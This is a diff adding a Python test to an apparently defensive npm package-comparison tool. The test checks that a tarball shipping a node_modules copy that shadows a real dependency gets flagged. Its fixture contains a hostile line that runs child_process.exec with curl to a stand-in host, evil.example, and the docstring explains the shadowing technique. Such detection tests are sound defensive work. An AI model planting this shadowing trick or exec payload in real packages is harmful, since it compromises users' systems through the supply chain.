@@ -445,6 +445,26 @@ def test_bundled_dependencies_in_object_form_are_seen_as_npm_normalises_them(
     assert '"ms" added to the bundle' in f.message
 
 
+
+def test_a_dependency_shipped_under_node_modules_without_bundling_is_reported(tmp_path: Path) -> None:
+    """npm pack never ships an unlisted node_modules/, but npm installs one from a (crafted) tarball, and require()
+    from the package finds it before the real dependency (checked with the real npm in the attack notes)."""
+    manifest = package_json(dependencies={"ms": "^2.1.0"})
+    files = {"package.json": manifest, "index.js": "module.exports = require('ms')\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz(
+        {
+            **files,
+            "package.json": package_json(version="1.0.1", dependencies={"ms": "^2.1.0"}),
+            "node_modules/ms/package.json": '{"name":"ms","version":"2.1.3"}',
+            "node_modules/ms/index.js": "require('child_process').exec('curl https://evil.example')\n",
+        },
+        tmp_path / "c.tgz",
+    )
+    (f,) = only(diff_packages(load(base), load(cand), Policy()), "bundled-dependencies-changed")
+    assert f.blocks and '"ms" added to the bundle' in f.message and "without being in bundleDependencies" in f.message
+
+
 # ------------------------------------------------------------------ bin and entry points
 
 
